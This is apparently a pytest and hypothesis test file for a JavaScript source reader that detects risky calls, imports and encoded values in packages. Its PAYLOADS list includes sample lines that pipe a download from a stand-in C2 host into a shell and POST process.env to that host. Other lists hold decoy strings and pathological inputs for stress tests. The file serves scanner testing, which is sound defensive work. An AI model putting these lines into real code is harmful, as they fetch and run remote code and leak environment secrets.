import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from customhouse.model.code import CodeFacts
from customhouse.source.javascript import reader
from customhouse.source.javascript.reader import read_javascript

PAYLOADS = (
    "const cp = require('child_process'); cp['ex' + 'ec']('curl https://c2.invalid | sh');",
    "eval(atob('cmVxdWlyZSgnZnMnKQ=='));",
    "fetch('https://c2.invalid', { method: 'POST', body: JSON.stringify(process.env) });",
    "import os from 'os'; const h = os.hostname();",
)
#: What holds the openings of comments, strings and patterns, and is none.
DECOYS = (
    'var s = "/*";',
    "var s = '/*';",
    "var s = `/*`;",
    'var s = "//";',
    "var s = '`';",
    'var s = "\'";',
    "var s = '\"';",
    "var s = /[/*]/;",
    "var s = /\\/*/;",
    "var s = /'/;",
    "var s = /`/g;",
    "var s = /[\"'`]/;",
    "var s = 1 / 2; /* ' */",
    "var s = a / b / c;",
    "var s = `${'/*'}`;",
    "var s = `a ${`b ${'}'} /*`} c`;",
    "var s = '<!--';",
    "var s = '-->';",
    "var s = '\\'/*';",
    'var s = "\\\\"; /* " */',
    "// */ ` ' \"\n",
    "/* ` ' \" // */",
    "var s = '\\\n/*';",
    "label: { var s = {} / 1; }",
    "if (x) /re'/.test(y);",
    "var s = x++ / 2; var t = '/';",
    "var s = '\\u2028/*';",
)


def read(source: str | bytes, path: str = "index.js") -> CodeFacts:
    return read_javascript(path, source.encode() if isinstance(source, str) else source, "javascript")


def shape(facts: CodeFacts) -> tuple[object, ...]:
    return (
        [(each.module, each.form, each.when) for each in facts.imports],
        sorted((call.callee, call.when, call.arguments, call.origins) for call in facts.calls),
        sorted((each.kind, each.when, each.detail) for each in facts.capabilities),
        sorted((each.value, each.encodings) for each in facts.decoded),
        facts.hosts,
        facts.unread,
    )


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("decoy", DECOYS)
def test_what_looks_like_a_comment_changes_nothing(decoy, payload):
    assert shape(read(f"{decoy}\n{payload}")) == shape(read(payload))
    assert shape(read(f"{payload}\n{decoy}")) == shape(read(payload))


@given(st.lists(st.sampled_from(DECOYS), max_size=4), st.sampled_from(PAYLOADS))
@settings(max_examples=60, deadline=None)
def test_many_decoys_change_nothing(decoys, payload):
    assert shape(read("\n".join((*decoys, payload)))) == shape(read(payload))


@given(
    st.text(alphabet=st.characters(exclude_characters="\\'\n\r\u2028\u2029", exclude_categories=["Cs"]), max_size=40)
)
@settings(max_examples=80, deadline=None)
def test_any_string_before_changes_nothing_but_what_it_says(text):
    plain = read(PAYLOADS[0])
    found = read(f"var s = '{text}';\n{PAYLOADS[0]}")
    assert [call.callee for call in found.calls] == [call.callee for call in plain.calls]
    assert {each.module for each in found.imports} == {each.module for each in plain.imports}


def test_comments_say_nothing():
    facts = read(
        "// require('child_process').exec('https://a.invalid')\n"
        "/* eval(atob('cmVxdWlyZSgnZnMnKQ==')) ~/.npmrc 203.0.113.7 */\n"
    )
    assert shape(facts) == ([], [], [], [], (), "")


def test_strings_say_nothing_of_calls():
    facts = read(
        "const help = 'use require(\"child_process\").exec() or eval(x)'; const r = /eval(x)/; const t = `fetch(x)`;"
    )
    assert facts.calls == ()
    assert facts.imports == ()
    assert facts.capabilities == ()


def test_lines_are_of_the_file():
    facts = read("#!/usr/bin/env node\n\n'use strict'\nconst a = require('fs')\n\na.readFileSync('x')\n")
    assert [(each.module, each.line) for each in facts.imports] == [("fs", 4)]
    assert [(call.callee, call.line) for call in facts.calls] == [("fs.readFileSync", 6)]


@pytest.mark.parametrize(
    "source",
    [
        b"",
        b"\x00\xff\xfe\x80" * 100,
        b"\xff\xfe" + "eval('1')".encode("utf-16-le"),
        b"{",
        b"((((",
        b"`${",
        b"/*",
        b"'",
        b"<<<<<<< HEAD\nlet a\n=======\nlet b\n>>>>>>> x",
        b'{"json": true, "list": [1, 2]}',
        b"\\u0065\\u{110000}\\u{}",
        b"import",
        b"import from",
        b"export * from",
        b"require(",
        b"require()",
        b"eval()",
        b"new Function",
        b"const {",
        b"x[",
        b"class { static {",
    ],
)
def test_broken_files_are_read_as_far_as_they_go(source):
    facts = read(source)
    assert facts.size == len(source)


@given(st.binary(max_size=200))
@settings(max_examples=150, deadline=None)
def test_never_raises_on_bytes(data):
    read(data)


WORDS = st.sampled_from(
    [
        *("require", "eval", "process", "env", "module", "constructor", "import", "from", "async", "await", "function"),
        *(
            "class",
            "static",
            "return",
            "const",
            "let",
            "atob",
            "Function",
            "new",
            "fetch",
            "this",
            "then",
            "map",
            "with",
        ),
        *("(", ")", "[", "]", "{", "}", "'", '"', "`", "${", "+", "=", "=>", ",", ";", ".", "?.", "...", "\n", "//"),
        *("/*", "*/", "/", "\\u0065", "0x1", ":", "?", "!", "const{", "x", "y", "'a'", "'fs'", "'child_process'"),
    ]
)


@given(st.lists(WORDS, max_size=60), st.sampled_from(["a.js", "a.ts", "a.tsx", "a.mjs", "a.cjs"]))
@settings(max_examples=400, deadline=None)
def test_never_raises_on_words(words, path):
    read(" ".join(words), path)


HOSTILE = {
    "nested brackets": "[" * 100_000,
    "nested closed brackets": "[" * 50_000 + "]" * 50_000,
    "nested calls": "f(" * 50_000 + ")" * 50_000,
    "nested parentheses around a call": "(" * 50_000 + "eval(x)" + ")" * 50_000,
    "nested functions": "function f(){" * 20_000 + "eval(x)" + "}" * 20_000,
    "nested arrows": "x=>" * 50_000 + "eval(x)",
    "nested templates": "`${" * 20_000 + "eval(x)" + "}`" * 20_000,
    "nested objects": "x={a:" * 30_000 + "require('fs')" + "}" * 30_000,
    "nested ternaries": "a?" * 30_000 + "eval(x)" + ":b" * 30_000,
    "sum of names": "x=" + "+".join(["a"] * 100_000),
    "sum of texts": "eval(" + "+".join(["'a'"] * 100_000) + ")",
    "sum of texts in a load": "require(" + "+".join(["'a'"] * 50_000) + ")",
    "member chain": "require" + ".a" * 100_000 + "()",
    "call chain": "require('fs')" + ".then(f)" * 30_000,
    "subscript chain": "process" + "['env']" * 50_000,
    "comma chain": "(" + ",".join(["eval"] * 50_000) + ")('x')",
    "else if chain": "if(a){}" + "else if(b){eval(x)}" * 5_000,
    "unary chain": "!" * 100_000 + "eval(x)",
    "many evals": "eval(x);" * 30_000,
    "many requires": "".join(f"const a{n}=require('m{n}');" for n in range(20_000)),
    "many aliases": "const a0=require;" + "".join(f"const a{n + 1}=a{n};" for n in range(5_000)) + "a5000('fs')",
    "many uses of one name": "const a=require('fs');" + "a.readFileSync(a.x);" * 10_000,
    "many writes": "let b='';" + "b+='x';" * 20_000 + "eval(b)",
    "doubling": "var a0='x';" + "".join(f"var a{n + 1}=a{n}+a{n};" for n in range(60)) + "eval(a60)",
    "doubling functions": "".join(f"const f{n + 1}=x=>f{n}(x)+f{n}(x);" for n in range(40))
    + "const f0=x=>x;eval(f40('a'))",
    "recursive function": "const f=x=>f(x)+f(x);eval(f('a'))",
    "recursive value": "var a=b,b=a;eval(a)",
    "repeat": "eval('x'.repeat(1e9))",
    "large array": "eval([" + "1," * 100_000 + "].map(c=>String.fromCharCode(c)).join(''))",
    "large base64": "eval(atob('" + "QUFB" * 200_000 + "'))",
    "many base64": "x=[" + ("'" + "QUFBQUFBQUFBQUFB" * 3 + "',") * 20_000 + "]",
    "escapes": "x='" + "\\x41" * 200_000 + "'",
    "escaped names": "\\u0061;" * 20_000,
    "slow pattern": "eval('" + "a" * 5_000 + "'.replace(/(a+)+$/, ''))",
    "one-letter names": "var "
    + ",".join(f"e{n}" for n in range(2_000))
    + ";function e(e){return e?e(e):e}"
    + "e(e,e,e);" * 5_000
    + "eval(e)",
    "null bytes": "\0" * 100_000 + "eval(x)",
    "quotes": "'\"`" * 30_000,
    "comment openings": "/*" * 100_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_end(name):
    data = HOSTILE[name].encode()
    started = time.process_time()
    facts = read(data)
    assert time.process_time() - started < 4
    assert facts.size == len(data)


@pytest.mark.parametrize(
    "name", ["nested parentheses around a call", "nested functions", "nested templates", "unary chain"]
)
def test_a_call_buried_too_deep_is_a_gap_or_a_fact(name):
    facts = read(HOSTILE[name])
    assert facts.unread or any(call.callee == "eval" for call in facts.calls)


def test_too_large_a_file_is_a_gap(monkeypatch):
    monkeypatch.setattr(reader, "MAX_SIZE", 100)
    assert "larger" in read("x" * 101).unread


@pytest.mark.parametrize(
    "source",
    [
        "let a = ;;; ((( eval(x) ]] {{",
        "@@@@ %% ## const x = require('child_process' exec",
        "function ( { ) } eval)(x",
        "let x = 'unclosed\neval(y)\nfoo = bar baz eval ) ( x",
    ],
)
def test_an_unreadable_part_that_may_call_is_a_gap(source):
    assert "unparsable" in read(source).unread


@pytest.mark.parametrize(
    ("path", "source"),
    [
        (
            "flow.js",
            "// @flow\nimport type { A } from './a';\nexport function f(a: A, b?: ?number): Array<A> { return [a] }\n",
        ),
        (
            "flow.js",
            "// @flow\ntype Props = {| +a: string, -b: number |};\nconst x: Props = (y: any);\nmodule.exports = x;\n",
        ),
        ("attributes.mjs", "import data from './a.json' with { type: 'json' };\nexport default data;\n"),
        ("accessor.js", "class A { accessor x = 1; }\nmodule.exports = A;\n"),
        ("using.js", "async function f() { await using x = g(); }\nmodule.exports = f;\n"),
        ("decorators.js", "@a class B { @c() d() {} }\nmodule.exports = B;\n"),
        ("data.js", '{"a": 1}'),
        ("jsx.jsx", "export default () => <div className='a' {...p}>it's {x ? <b/> : null} // not a comment</div>;\n"),
        (
            "types.ts",
            (
                "export enum A { B = 1 }\nnamespace C { export const d = 1 }\ndeclare module 'x' { }\nlet y = <any>z;\n"
                "abstract class D<T extends object> { private constructor(readonly e?: T) {} }\n"
            ),
        ),
        ("types.d.ts", "declare function f(a: string): void;\nexport = f;\nexport as namespace F;\n"),
        ("component.tsx", "export const A = <T,>(p: T) => <div<string>>{p as any}</div>;\n"),
        ("satisfies.mts", "const a = { b: 1 } satisfies Record<string, number>;\nexport type { A } from './a.mjs';\n"),
    ],
)
def test_modern_and_typed_files_are_no_gap(path, source):
    assert read(source, path).unread == ""
